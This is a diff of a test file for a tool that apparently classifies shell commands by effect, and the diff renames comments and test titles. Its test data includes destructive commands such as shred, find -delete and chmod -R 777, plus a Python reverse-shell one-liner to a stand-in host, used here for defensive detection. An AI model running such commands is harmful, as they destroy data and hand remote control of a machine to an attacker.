@@ -59,7 +59,7 @@ describe('files', () => {
     ['unlink a', [{ path: '/home/dev/shop/a' }]],
     ['shred -u a', [{ path: '/home/dev/shop/a', force: true }]],
     ['mv a /b', [{ path: '/home/dev/shop/a' }]],
-    // `-delete` takes no folder that still holds something else.
+    // `-delete` fails on a directory that is not empty.
     ['find src -name x -delete', [{ path: '/home/dev/shop/src/**/x', recursive: false, force: true }]],
     ['find src -delete', [{ path: '/home/dev/shop/src', recursive: true }]],
     ['rsync -a --delete a/ /b', [{ path: '/b', recursive: true }]],
@@ -74,7 +74,7 @@ describe('files', () => {
     expect(effects(command, 'delete')).toMatchObject(expected);
   });
 
-  test('rights', () => {
+  test('permissions', () => {
     expect(effects('chmod -R 777 /b', 'permission')).toMatchObject([
       { path: '/b', mode: '777', recursive: true },
     ]);
@@ -141,7 +141,7 @@ describe('network', () => {
       `python3 -c 'import socket,subprocess;s.connect(("a.example",9));subprocess.call(["/bin/sh","-i"])'`,
       'a.example',
     ],
-  ])('%j runs what it fetched', (command, host) => {
+  ])('%j runs what it downloaded', (command, host) => {
     const [found] = effects(command, 'execute').filter((effect) => effect.from === 'network');
     expect(found?.host).toBe(host);
   });
